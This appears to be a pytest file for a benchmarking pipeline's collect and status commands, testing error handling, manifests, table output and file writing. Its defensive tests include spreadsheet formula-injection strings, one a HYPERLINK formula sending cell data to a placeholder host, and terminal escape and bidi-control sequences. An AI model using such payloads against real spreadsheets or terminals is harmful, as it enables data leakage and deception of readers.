"""What collect and status make of folders: tables and states, refusals in a sentence, and nothing lost."""

import contextlib
import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import msgspec
import pytest
from conftest import (
    ROOT,
    Command,
    assert_refused,
    everything_in,
    needs_root,
    plain_environment,
    run_command,
    run_unprivileged,
    succeeded,
    without_slurm,
)
from factories import (
    INT8_RECORDS,
    SUBMISSION,
    assert_says,
    known,
    make_experiment,
    make_record,
    make_spec,
    measurement_of,
    on_gpus,
    with_measurement,
    write_file,
)
from forked_command import run_module

from pipeline.collect import DEFECT, address_of_words, go_on_after_defect
from pipeline.records.folder import Experiment, folder_or_newest, start_submission
from pipeline.records.record import Environment, Failure, Gpu, Telemetry
from pipeline.report.collected import inert_cell

Make = Callable[[Path], object]
READING: dict[str, tuple[str, ...]] = {"collect": ("--no-write",), "status": ()}  # plots take most of the time
FOLDERS: dict[str, tuple[Make, int]] = {
    "absent": (lambda path: None, 2),
    "a file": (lambda path: path.write_text("mine"), 2),
    "a loop": (lambda path: path.symlink_to(path), 2),
    "empty": (lambda path: path.mkdir(), 3),
    "of other things": (lambda path: (path / "deep" / "down").mkdir(parents=True), 3),
}


@pytest.mark.fault("F32")
@pytest.mark.parametrize("command", ["collect", "status"])
@pytest.mark.parametrize(("make", "code"), FOLDERS.values(), ids=FOLDERS.keys())
def test_a_folder_that_cannot_be_read_is_2_and_one_with_no_experiment_3(
    pipeline: Command, tmp_path: Path, command: str, make: Make, code: int
) -> None:
    make(tmp_path / "given")
    cure = "give the folder that holds the experiments" if code == 2 else ""
    assert_refused(pipeline(command, tmp_path / "given"), code, str(tmp_path / "given"), cure)


@pytest.mark.parametrize("command", ["collect", "status"])
def test_without_a_folder_the_users_newest_experiment_is_taken(tmp_path: Path, command: str) -> None:
    def run(*words: str) -> subprocess.CompletedProcess[str]:
        return run_module(f"pipeline.{command}", [*words, *READING[command]], plain_environment(), tmp_path)

    assert_refused(run(), 3, "no experiment of yours below outputs", "name a folder")
    make_experiment(tmp_path / "elsewhere", make_record())
    for name, age_s in (("old", 20), ("deep/new", 10), ("of-no-manifest", 0)):
        folder = tmp_path / "outputs" / name
        manifest = make_experiment(folder, make_record()).manifest_path
        os.utime(manifest, (time.time() - age_s,) * 2)
    manifest.unlink()
    answer = run()
    assert (answer.returncode, answer.stderr) == (0, "Your newest experiment: outputs/deep/new\n")
    assert answer.stdout == run("outputs/deep/new").stdout != ""


@needs_root
def test_the_newest_experiment_is_not_that_of_another_user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("mine", "theirs"):
        make_experiment(Path("outputs", name), make_record())
    os.utime("outputs/mine/manifest.json", (1, 1))
    os.chown("outputs/theirs/manifest.json", 4711, -1)
    assert folder_or_newest(None) == Path("outputs/mine")


def collected(pipeline: Command, folder: Path) -> dict[str, Any]:
    """The experiments below the folder as `collect` prints them in JSON."""
    answer = pipeline("collect", folder, "--format", "json", "--no-write")
    assert (answer.returncode, answer.stderr) == (0, "")
    found: dict[str, Any] = json.loads(answer.stdout)["experiments"]
    return found


def test_records_without_a_manifest_are_tables_to_collect_and_nothing_to_status(
    pipeline: Command, tmp_path: Path
) -> None:
    make_experiment(tmp_path / "x", make_record()).manifest_path.unlink()
    assert_refused(pipeline("status", tmp_path), 3, "manifest")
    assert collected(pipeline, tmp_path)["x"]["coverage"]["expected"] == 1
    make_experiment(tmp_path / "y", make_record())
    beside = pipeline("status", tmp_path, "--json")
    assert (beside.returncode, list(json.loads(beside.stdout)["experiments"])) == (0, ["y"])
    assert "x has no manifest" in beside.stderr


def test_records_without_a_manifest_stand_by_gpus_and_batch_and_not_by_name(pipeline: Command, tmp_path: Path) -> None:
    sizes = ((2, 8), (2, 16), (2, 128), (1, 64), (1, 512))
    make_experiment(tmp_path / "x", *(make_record(on_gpus(*size)) for size in sizes)).manifest_path.unlink()
    tables = collected(pipeline, tmp_path)["x"]
    assert {name: [row["batch_size_per_gpu"] for row in tables[name]] for name in ("Q1", "Q3")} == {
        "Q1": [64, 512],
        "Q3": [8, 16, 128],
    }


@pytest.mark.parametrize("raw", [b"", b"{", b"\xff", b'{"schema_version": 9}'])
@pytest.mark.parametrize("command", ["collect", "status"])
def test_a_manifest_that_is_none_is_2_and_named(pipeline: Command, tmp_path: Path, command: str, raw: bytes) -> None:
    make_experiment(tmp_path / "x", make_record()).manifest_path.write_bytes(raw)
    assert_refused(pipeline(command, tmp_path), 2, "manifest.json")


@pytest.mark.parametrize("command", ["collect", "status"])
@pytest.mark.parametrize(("status", "code"), [("ok", 0), ("oom", 0), ("failed", 1), ("rejected", 1), ("missing", 1)])
def test_strict_is_1_where_a_point_has_no_result(
    pipeline: Command, tmp_path: Path, command: str, status: Any, code: int
) -> None:
    spec = make_spec(batch_size_per_gpu=64)
    found = [make_record()] + ([make_record(spec, status=status)] if status in ("ok", "oom", "failed") else [])
    experiment = make_experiment(tmp_path / "x", *found, missing=[spec])
    if status == "rejected":
        (experiment.records_folder / f"{spec.run_id()}.0.json").write_text("{")
    lenient, strict = (pipeline(command, tmp_path, *READING[command], *more) for more in ((), ("--strict",)))
    assert (lenient.returncode, strict.returncode, strict.stderr) == (0, code, "")
    assert lenient.stdout == strict.stdout != ""


def test_strict_is_1_where_no_manifest_says_what_is_missing(pipeline: Command, tmp_path: Path) -> None:
    """A student's folder with report.html and records/ alone passed, whatever was deleted from records/."""
    experiment = make_experiment(tmp_path / "x", make_record())
    assert pipeline("collect", tmp_path / "x", "--strict").returncode == 0
    experiment.manifest_path.unlink()
    answer = pipeline("collect", tmp_path / "x", "--strict")
    assert (answer.returncode, "without manifest.json nobody knows what x lacks" in answer.stderr) == (1, True)


def rows_in(path: Path) -> list[dict[str, str]]:
    with path.open(newline="") as file:
        return list(csv.DictReader(file))


def test_what_collect_prints_is_what_it_writes(pipeline: Command, tmp_path: Path) -> None:
    oom = make_record(make_spec(batch_size_per_gpu=64), status="oom", reason='out of, "memory"\nindeed')
    scaled = make_record(make_spec(strategy="ddp", num_gpus=2), (2, 0.7))
    experiment = make_experiment(tmp_path / "a" / "x", make_record(loss=1.5), oom, scaled)
    (experiment.folder / "oom.csv").write_text("stale")
    markdown = pipeline("collect", tmp_path, "--full")
    assert (markdown.stderr, markdown.stdout) == ("", experiment.report.read_text())
    printed = collected(pipeline, tmp_path)["a/x"]
    assert json.loads((experiment.folder / "tables.json").read_text()) == printed
    tables = {"communication", "bandwidth", "sweep", "transfers", "split", "prediction", "memory", "time_to_target"}
    num_rows = {"Q1": 2, "Q2": 3, "Q3": 1, "Q4": 2, "oom": 1}
    assert {name: len(rows) for name, rows in printed.items() if name not in ("coverage", "cost")} == (
        dict.fromkeys(tables, 0) | num_rows
    )
    for name in num_rows:
        assert rows_in(experiment.folder / f"{name.lower()}.csv") == [
            {key: "" if value is None else str(value) for key, value in row.items()} for row in printed[name]
        ]


@pytest.mark.seconds
def test_collect_writes_a_page_beside_the_records_and_an_index_over_several(pipeline: Command, tmp_path: Path) -> None:
    found = [make_record(make_spec(batch_size_per_gpu=size)) for size in (32, 64)]
    first, second = (make_experiment(tmp_path / "a" / name, *found) for name in ("x", "y"))
    write_file(first.logs / SUBMISSION / f"{found[0].run_id}.log", "")
    with first.edit_manifest() as manifest:
        manifest.submissions.append(start_submission(SUBMISSION, "local"))
    answer = pipeline("collect", tmp_path, "--plots", "all")
    assert (answer.returncode, answer.stderr) == (0, "")
    assert {path.name for path in (second.folder / "plots").iterdir()} == {"q1.svg", "q1.pdf", "q1.png"}
    files = (f"records/{found[0].run_id}.0.json", f"logs/{SUBMISSION}/{found[0].run_id}.log")
    assert_says((first.folder / "report.html").read_text(), *(f">{file}<" for file in files))
    assert "<svg " in (second.folder / "plots" / "q1.svg").read_text()
    assert_says((tmp_path / "index.html").read_text(), 'href="a/x/report.html"', 'href="a/y/report.html"')


def test_a_root_that_may_not_be_written_has_no_index_and_says_so(tmp_path: Path) -> None:
    for name in "xy":
        make_experiment(tmp_path / "all" / name, make_record())
    (tmp_path / "all").chmod(0o500)
    answer = run_unprivileged("collect", tmp_path / "all")
    assert (answer.returncode, (tmp_path / "all" / "x" / "report.html").exists()) == (0, True)
    assert "cannot write the index of all experiments" in answer.stderr


def test_an_experiment_by_itself_has_no_index_and_no_stale_table(pipeline: Command, tmp_path: Path) -> None:
    experiment = make_experiment(tmp_path / "x", make_record(loss=1.5), missing=[make_spec(batch_size_per_gpu=2)])
    (experiment.folder / "oom.csv").write_text("stale")
    pipeline("collect", tmp_path)
    assert not any(path.exists() for path in (tmp_path / "index.html", experiment.folder / "oom.csv"))
    assert "index.html" not in (experiment.folder / "report.html").read_text()


@pytest.mark.fault("F32")
def test_files_that_cannot_be_written_beside_the_records_are_2_and_the_tables_are_printed(
    pipeline: Command, tmp_path: Path
) -> None:
    make_experiment(tmp_path / "x", make_record()).report.mkdir()
    answer = pipeline("collect", tmp_path)
    assert (answer.returncode, "# x" in answer.stdout, "Traceback" in answer.stderr) == (2, True, False)


@pytest.mark.fault("F21")
def test_junk_among_the_records_is_named_and_nothing_else_is_lost(pipeline: Command, tmp_path: Path) -> None:
    spoilt = make_record(make_spec(batch_size_per_gpu=64))
    experiment = make_experiment(tmp_path / "x", make_record(), spoilt)
    path = experiment.records_folder / f"{spoilt.run_id}.0.json"
    junk = {"foreign": b'{"hello": [1, 2, 3]}', "deep": b"[" * 100_000, "binary": bytes(range(256))}
    for name, raw in {path.stem: path.read_bytes()[:100], **junk}.items():
        (experiment.records_folder / f"{name}.json").write_bytes(raw)
    (experiment.records_folder / "folder.json").mkdir()
    (experiment.records_folder / "link.json").symlink_to(experiment.manifest_path)
    os.mkfifo(experiment.records_folder / "fifo.json")
    answer = pipeline("collect", tmp_path, "--no-write")
    assert (answer.returncode, answer.stderr) == (0, "")
    assert_says(
        answer.stdout,
        *(f"records/{name}.json" for name in (path.stem, *junk, "folder", "link", "fifo")),
        *("2 configurations expected: 1 ok, 0 OOM, 0 failed, 0 missing, 1 rejected", "6 foreign"),
    )


def test_a_record_whose_epoch_took_no_time_ends_in_no_traceback(pipeline: Command, tmp_path: Path) -> None:
    (path,) = make_experiment(tmp_path / "x", make_record()).records_folder.iterdir()
    path.write_text(path.read_text().replace('"epoch_time_ns": 1000000000', '"epoch_time_ns": 0'))
    (row,) = collected(pipeline, tmp_path)["x"]["Q1"]
    assert row["throughput_samples_per_s"] is None


@pytest.mark.parametrize("command", ["collect", "status"])
def test_a_folder_whose_name_is_not_utf8_ends_in_no_traceback(pipeline: Command, tmp_path: Path, command: str) -> None:
    make_experiment(tmp_path / "x", make_record()).folder.rename(tmp_path / os.fsdecode(b"x\xff"))
    assert "Traceback" not in succeeded(pipeline(command, tmp_path)).stderr


def test_a_gpu_with_a_name_that_stdout_cannot_encode_ends_in_no_traceback(pipeline: Command, tmp_path: Path) -> None:
    make_experiment(tmp_path / "x", make_record(environment=Environment(gpus=(Gpu(name="Größe\u200b"),))))
    answer = pipeline("collect", tmp_path, "--no-write", env=without_slurm(tmp_path, PYTHONIOENCODING="ascii"))
    assert (answer.returncode, "Traceback" in answer.stderr) == (0, False)


def change_json(path: Path, change: Callable[[dict[str, Any]], object]) -> None:
    """Change a file of JSON by hand."""
    shape = json.loads(path.read_text())
    change(shape)
    path.write_text(json.dumps(shape))


def make_never_submitted(folder: Path) -> None:
    manifest = make_experiment(folder, make_record()).manifest_path
    submission = {"id": "s1", "backend": "local", "submitted_at": "never"}
    change_json(manifest, lambda shape: shape.update(submissions=[submission]))


def make_deep(folder: Path) -> None:
    """An experiment at a path of more than 4,096 bytes, which no system call accepts whole."""
    folder.mkdir()
    with contextlib.chdir(folder):
        for name in (*["d" * 210] * 20, "records"):
            os.mkdir(name)
            os.chdir(name)


UNREADABLE = {"never submitted": make_never_submitted, "path of 4,200 bytes": make_deep}


@pytest.mark.fault("F45")
def test_a_record_of_what_cannot_be_is_rejected_and_costs_no_other_experiment_anything(
    pipeline: Command, tmp_path: Path
) -> None:
    """What cannot be: tests/records/test_record_store.py."""
    make_experiment(tmp_path / "good", make_record())
    alone = collected(pipeline, tmp_path)["good"]
    (record,) = make_experiment(tmp_path / "bad", make_record()).records_folder.iterdir()
    change_json(record, lambda shape: shape["environment"].update(cpu="a\x0bb"))
    found = collected(pipeline, tmp_path)
    assert (found["good"], found["bad"]["coverage"]["rejected"]) == (alone, 1)
    assert pipeline("collect", tmp_path, "--strict", "--no-write").returncode == 1


@pytest.mark.fault("F45")
@pytest.mark.parametrize("command", ["collect", "status", "cancel", "compare"])
@pytest.mark.parametrize("make", UNREADABLE.values(), ids=UNREADABLE.keys())
def test_an_experiment_that_cannot_be_read_gets_a_sentence_and_the_others_their_answer(
    pipeline: Command, tmp_path: Path, command: str, make: Make
) -> None:
    for name in ("all/good", "others/good", "others/bad"):
        make_experiment(tmp_path / name, make_record())
    more: dict[str, tuple[str | Path, ...]] = {"compare": (tmp_path / "others",), "collect": ("--full", "--no-write")}
    arguments = (tmp_path / "all", *more.get(command, ()))
    alone = pipeline(command, *arguments)
    make(tmp_path / "all" / "bad")
    answer = pipeline(command, *arguments)
    assert (alone.returncode, answer.returncode, "Traceback" in answer.stderr) == (0, 2, False)
    (said,) = [line for line in answer.stderr.splitlines() if not line.startswith("Notice: only under")]
    assert str(tmp_path / "all" / "bad") in said
    if command != "cancel":  # which has nothing to say where nothing is queued
        assert answer.stdout.endswith(alone.stdout)


def test_a_figure_that_fails_is_named_with_its_place_and_is_2(capsys: pytest.CaptureFixture[str]) -> None:
    codes = [0]
    with go_on_after_defect("a/x", codes):
        next(iter(sys.argv[:0]))
    assert codes == [0, 2]
    place = f"error: a/x: {DEFECT} (StopIteration in test_collect.py, line "
    assert_says(capsys.readouterr().err, place, "report it with the records")
    with pytest.raises(ModuleNotFoundError), go_on_after_defect("a/x", codes):
        raise ModuleNotFoundError("pandas")


@pytest.mark.parametrize("command", ["collect", "status"])
def test_a_folder_that_may_not_be_read_is_2_and_those_beside_it_are_answered(tmp_path: Path, command: str) -> None:
    for name in ("good", "closed"):
        make_experiment(tmp_path / name, make_record())
    (tmp_path / "closed").chmod(0)
    assert_refused(run_unprivileged(command, tmp_path / "closed"), 2, "Permission denied")
    answer = run_unprivileged(command, tmp_path, "--strict")
    assert (answer.returncode, "left out: " in answer.stderr, "good" in answer.stdout) == (2, True, True)


def test_a_point_that_a_manifest_names_twice_counts_once(pipeline: Command, tmp_path: Path) -> None:
    manifest = make_experiment(tmp_path / "x", make_record()).manifest_path
    change_json(manifest, lambda shape: shape.update(points=shape["points"] * 2))
    tables = collected(pipeline, tmp_path)["x"]
    assert (tables["coverage"]["expected"], tables["Q1"][0]["n"]) == (1, 1)


FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://host/"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "x\r=1+1\r\n=2",
)
FORMULAS += ("\n=1+1", " =1+1", "\n\t @SUM(A1)", "\xa0=1+1", "\uff1d1+1")  # blanks and a wide sign do not hide one


def test_a_reason_that_a_spreadsheet_would_run_as_a_formula_is_text_in_the_csv_files_alone(tmp_path: Path) -> None:
    """A reason is what a rank printed, or what another's record says."""
    diverged = make_record(make_spec(num_samples=256), [1.0, 1.0], loss=-0.5)
    lost = [
        make_record(make_spec(batch_size_per_gpu=512 + size), status="oom", reason=reason)
        for size, reason in enumerate(FORMULAS)
    ]
    folder = make_experiment(tmp_path / "x", *lost, diverged).folder
    assert run_command("collect", tmp_path / "x").returncode == 0
    for reason, row in zip(FORMULAS, rows_in(folder / "oom.csv"), strict=True):
        lines = reason.replace("\r\n", "\n").replace("\r", "\n")  # else what follows one is a row of its own
        shown = lines.replace("\xa0", "\N{REPLACEMENT CHARACTER}")
        assert row["reason"] == (shown if reason.startswith("x") else f"'{shown}")
    assert [row["reason"] for row in json.loads((folder / "tables.json").read_text())["oom"]] == [*FORMULAS]
    assert {row["loss"] for row in rows_in(folder / "q4.csv")} == {"-0.5"}, "a number is no text"


@pytest.mark.parametrize("sign", "\t\r")
def test_a_cell_that_begins_with_a_tab_or_a_carriage_return_is_text_whatever_follows(sign: str) -> None:
    assert inert_cell(f"{sign}SUM(A1)") == "'{}SUM(A1)".format(sign.replace("\r", "\n"))


BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
NO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff\xad\U000e0041"
HOSTILE_NAME = f"=gpu{BIDI}{NO_WIDTH}\uffff`x"  # what the schema accepts as a name
HOSTILE_TEXT = f"\n=\x1b[31mred\x1b]8;;http://host/\x07link\x1b]8;;\x07\x7f\x85\x9b2J{HOSTILE_NAME}"
HOSTILE = Environment(
    gpus=(Gpu(name=HOSTILE_NAME, node=HOSTILE_NAME, uuid=HOSTILE_NAME),),
    nodes=(HOSTILE_NAME,),
    variables={f"NCCL_{HOSTILE_NAME}": HOSTILE_NAME},
    cpu=HOSTILE_NAME,
    driver=HOSTILE_NAME,
    torch=HOSTILE_NAME,
    source_digest=HOSTILE_NAME,
    source=HOSTILE_NAME,
)


def hostile_experiment(folder: Path) -> Path:
    """An experiment with hostile text in every field that the schema leaves open, and in its own name."""
    quantization = known(measurement_of(INT8_RECORDS[0]).quantization)
    histograms = (msgspec.structs.replace(quantization.histograms[0], layer=HOSTILE_NAME),)
    quantized = with_measurement(
        INT8_RECORDS[0], quantization=msgspec.structs.replace(quantization, histograms=histograms)
    )
    failure = Failure("exception", HOSTILE_TEXT, node=HOSTILE_NAME)
    other = msgspec.structs.replace(HOSTILE, gpus=(Gpu(name=f"b{HOSTILE_NAME}"),))
    experiment = make_experiment(
        folder / f"x{BIDI}\x9b",
        make_record(environment=HOSTILE, telemetry=Telemetry(interval_s=1.0, notes=(HOSTILE_NAME,))),
        make_record(make_spec(strategy="ddp", num_gpus=2), (2, 0.7), environment=other),
        make_record(make_spec(batch_size_per_gpu=64), status="oom", reason=HOSTILE_TEXT),
        make_record(make_spec(batch_size_per_gpu=32), status="failed", reason=HOSTILE_TEXT, failure=failure),
        msgspec.structs.replace(quantized, environment=HOSTILE),
    )
    (experiment.records_folder / f"bad{BIDI}.json").write_text("{")
    make_experiment(folder / f"y{BIDI}", make_record(environment=HOSTILE))
    return folder


NUMBER = re.compile(r"[-+]?\d+(\.\d+)?(e[-+]\d+)?\Z")


def unprintable(text: str) -> set[str]:
    return {char for char in text if not char.isprintable()} - {"\n", "\t"}


SHOWN: tuple[tuple[str, ...], ...] = (
    ("collect", "--no-write", "--full"),
    ("collect", "--no-write", "--format", "json"),
    *(("collect", "--no-write", "--format", "csv", "--only", table) for table in ("Q1", "oom", "int8_histograms")),
    ("status", "--all"),
    ("status", "--json"),
    ("cancel",),
    ("compare",),
    ("compare", "--json"),
    ("submit", "--grid", "smoke", "--dry-run", "--outputs"),
    ("submit", "--grid", "smoke", "--dry-run", "--json", "--outputs"),
    ("status", f"--x{BIDI}"),
)


@pytest.mark.fault("F47")
@pytest.mark.parametrize("arguments", SHOWN, ids=lambda arguments: " ".join(arguments[:6]).encode("unicode_escape"))
def test_no_text_of_others_controls_the_terminal(pipeline: Command, tmp_path: Path, arguments: tuple[str, ...]) -> None:
    folder = hostile_experiment(tmp_path)
    folders = [folder] if arguments[0] == "collect" else [folder / f"y{BIDI}"]
    if arguments[0] == "compare":
        folders.append(make_experiment(folder / "z", make_record()).folder)
    answer = pipeline(*arguments, *folders)
    assert (answer.returncode, "Warning" in answer.stderr) == (2 if BIDI in arguments[-1] else 0, False)
    assert unprintable(answer.stdout + answer.stderr) == set()
    assert answer.stdout or answer.returncode == 2


@pytest.mark.fault("F47")
def test_no_text_of_others_controls_a_reader_of_the_files(pipeline: Command, tmp_path: Path) -> None:
    folder = hostile_experiment(tmp_path)
    answer = pipeline("collect", folder)
    assert (answer.returncode, unprintable(answer.stdout + answer.stderr)) == (0, set())
    kinds = (".md", ".html", ".csv", ".svg")
    written = [path for path in folder.rglob("*") if path.suffix in kinds or path.name == "tables.json"]
    assert {path.suffix for path in written} == {".md", ".html", ".csv", ".svg", ".json"}
    assert {path.name for path in written if unprintable(path.read_text())} == set()
    cells = [
        cell
        for path in folder.rglob("*.csv")
        for row in csv.reader(path.read_text().splitlines(keepends=True))
        for cell in row
    ]
    assert any("red" in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@")) and not NUMBER.match(cell)] == []
    (shape,) = [json.loads(path.read_text()) for path in folder.glob("x*/tables.json")]
    assert shape["oom"][0]["reason"] == HOSTILE_TEXT, "JSON escapes it, and loses nothing"


@pytest.mark.fault("F32")
def test_a_folder_that_may_not_be_written_has_its_tables_printed_alone(tmp_path: Path) -> None:
    make_experiment(tmp_path / "scaling", make_record()).folder.chmod(0o500)
    before = everything_in(tmp_path)
    answer = run_unprivileged("collect", tmp_path)
    assert (answer.returncode, "# scaling" in answer.stdout) == (0, True), answer.stderr
    (said,) = answer.stderr.splitlines()
    assert_says(said, "scaling: cannot write", "Permission denied", "only printed")
    assert everything_in(tmp_path) == before


def test_a_record_that_may_not_be_read_is_not_to_be_thrown_away(tmp_path: Path) -> None:
    next(make_experiment(tmp_path / "scaling", make_record()).records_folder.iterdir()).chmod(0)
    said = " ".join(run_unprivileged("collect", tmp_path, "--no-write").stdout.split())
    assert_says(said, ") was not read", "Permission denied", "make it readable")
    assert "remove" not in said


def test_one_table_alone_in_each_format(pipeline: Command, tmp_path: Path) -> None:
    experiment = make_experiment(tmp_path / "x", make_record(), make_record(make_spec(batch_size_per_gpu=64)))
    text, shape, table = (
        pipeline("collect", tmp_path / "x", "--only", name, "--format", *form).stdout
        for name, *form in (("Q1", "markdown", "--no-write"), ("q1", "json", "--no-write"), ("Q1", "csv"))
    )
    assert (text.startswith("# x\n\n## Q1: "), text.count("\n## ")) == (True, 1)
    assert list(json.loads(shape)["experiments"]["x"]) == ["Q1"]
    assert table == (experiment.folder / "q1.csv").read_text()
    make_experiment(tmp_path / "y", make_record())
    several = pipeline("collect", tmp_path, "--only", "Q1", "--format", "csv", "--no-write").stdout
    assert [row["experiment"] for row in csv.DictReader(io.StringIO(several))] == ["x", "x", "y"]
    empty = pipeline("collect", tmp_path / "y", "--only", "int8", "--no-write", "--format", "csv")
    assert (empty.returncode, empty.stderr, empty.stdout) == (0, "", "")
    assert_refused(pipeline("collect", tmp_path, "--format", "csv"), 2, "name it with --only")


@pytest.mark.seconds
def test_collect_writes_nothing_anew_of_the_same_records(pipeline: Command, tmp_path: Path) -> None:
    """Neither of an experiment, whose plots take nine tenths of the time, nor of the index."""

    def written() -> dict[Path, int]:
        return {path: path.stat().st_mtime_ns for path in tmp_path.rglob("*") if path.is_file()}

    records = [make_record(make_spec(batch_size_per_gpu=size)) for size in (32, 64)]
    experiments = [make_experiment(tmp_path / name, *records) for name in ("x", "y")]
    pipeline("collect", tmp_path)
    first = written()
    assert {path.name for path in first} >= {"index.html", "report.html", "q1.svg", "q1.csv"}
    pipeline("collect", tmp_path)
    assert written() == first

    (experiments[0].folder / "plots" / "q1.svg").unlink()
    (experiments[1].records_folder / f"{records[0].run_id}.1.json").write_text("{}")
    pipeline("collect", tmp_path)
    changed = {str(path.relative_to(tmp_path)) for path, time_ns in written().items() if first.get(path) != time_ns}
    assert {"x/report.html", "x/plots/q1.svg", "y/report.html"} <= changed, "a plot is gone, and a file is new"
    assert "x/q1.csv" not in changed


def test_no_write_changes_no_file_and_names_none(pipeline: Command, tmp_path: Path) -> None:
    folder = make_experiment(tmp_path / "x", make_record()).folder
    before = everything_in(tmp_path)
    whole, brief = (pipeline("collect", folder, "--no-write", *option).stdout for option in ((), ("--brief",)))
    assert ("## Q1" in whole, "report." in whole + brief) == (True, False)
    assert everything_in(tmp_path) == before


@pytest.mark.parametrize(
    ("table", "name", "shown"), [("oom", "smoke", "out of host memory"), ("int8_histograms", "quantize", "three sigma")]
)
def test_a_table_that_is_in_no_report_is_printed_if_it_is_asked_for(
    pipeline: Command, table: str, name: str, shown: str
) -> None:
    answer = pipeline("collect", ROOT / "published" / "two-cores" / name, "--only", table, "--no-write")
    assert (answer.returncode, answer.stderr) == (0, "")
    assert shown in answer.stdout


def test_a_published_report_links_to_the_page_of_words() -> None:
    address = address_of_words(Experiment(ROOT / "published" / "a40-ddp"))
    assert (ROOT / "published" / "a40-ddp" / address).resolve() == ROOT / "docs" / "words.md"
